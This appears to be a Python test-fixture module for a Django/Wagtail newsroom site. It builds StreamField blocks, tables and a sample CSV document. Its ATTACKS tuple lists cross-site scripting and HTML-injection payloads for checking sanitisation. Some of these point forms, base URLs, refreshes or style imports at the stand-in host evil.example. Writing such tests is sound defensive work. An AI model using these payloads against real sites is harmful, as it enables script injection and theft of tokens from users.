"""A body's blocks as StreamField stores them, and what an attacker would type into them."""

from __future__ import annotations

from typing import Any

from django.core.files.base import ContentFile

from masthead.newsroom.models import Document

# Promise O-2: what must never run, whatever field it was typed into.
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="java&#10;script:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"><base href=//evil.example>',
    "</script><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<a id=config name=config>x</a>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example'</style>",
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover='alert(1)",
    "</title></desc></svg><img src=x onerror=alert(1)>",
)


def block(kind: str, value: Any, block_id: str = "b1") -> dict[str, Any]:
    return {"type": kind, "value": value, "id": block_id}


def items(*values: Any) -> list[dict[str, Any]]:
    return [{"type": "item", "value": value, "id": f"i{number}"} for number, value in enumerate(values)]


def table(*rows: tuple[str, ...]) -> dict[str, Any]:
    head, *rest = rows
    kinds = ["text"] + ["number"] * (len(head) - 1)
    columns = [{"type": kind, "heading": word} for kind, word in zip(kinds, head, strict=True)]
    return {"columns": columns, "rows": [{"values": list(row)} for row in rest], "caption": ""}


def make_document(**fields: Any) -> Document:
    made = Document(title="Leases", file=ContentFile(b"a,b\n1,2\n", "leases.csv"), **fields)
    made._set_document_file_metadata()
    made.save()
    return made
